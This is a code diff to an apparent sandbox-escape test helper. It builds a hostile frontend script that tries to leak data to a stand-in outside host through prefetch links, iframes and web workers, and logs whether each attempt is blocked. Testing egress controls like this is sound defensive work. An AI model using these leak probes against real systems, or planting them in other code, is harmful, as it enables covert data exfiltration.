@@ -3,16 +3,22 @@
  * and reports them through the one channel it has: an input over the bridge. `outside` is a
  * loopback address the test listens on, standing for any host on the internet.
  */
-export function hostileFrontend(outside: string, parlorUrl: string, stunPort: number): string {
+export function hostileFrontend(
+  outside: string,
+  parlorUrl: string,
+  stunPort: number,
+  skip: string[] = [],
+): string {
   const script = String.raw`
 const OUT = ${JSON.stringify(outside)}, API = ${JSON.stringify(parlorUrl)}, STUN = ${stunPort};
-const seen = [];
+const seen = [], SKIP = ${JSON.stringify(skip)};
 const results = {};
 const show = () => {
   document.getElementById('log').textContent = Object.entries(results)
     .map(([k, v]) => k + ': ' + v).join('\n');
 };
 const tryIt = async (name, fn) => {
+  if (SKIP.includes(name)) return;
   try { const v = await fn(); results[name] = 'LEAKED ' + String(v).slice(0, 80); }
   catch (e) { results[name] = 'blocked (' + (e && e.name) + ')'; }
   show();
@@ -52,7 +58,7 @@ async function attack() {
     return 'created';
   });
   await tryIt('prefetch link', () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = OUT + '/prefetch'; document.head.append(l); return event(l, 'load', 'error'); });
-  await tryIt('worker', () => { new Worker(URL.createObjectURL(new Blob(['1']))); return 'made'; });
+  await tryIt('worker', () => event(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message', 'error'));
   await tryIt('child frame', () => { const f = document.createElement('iframe'); f.src = OUT + '/frame'; document.body.append(f); return event(f, 'load', 'error'); });
 }
 addEventListener('message', async (e) => {
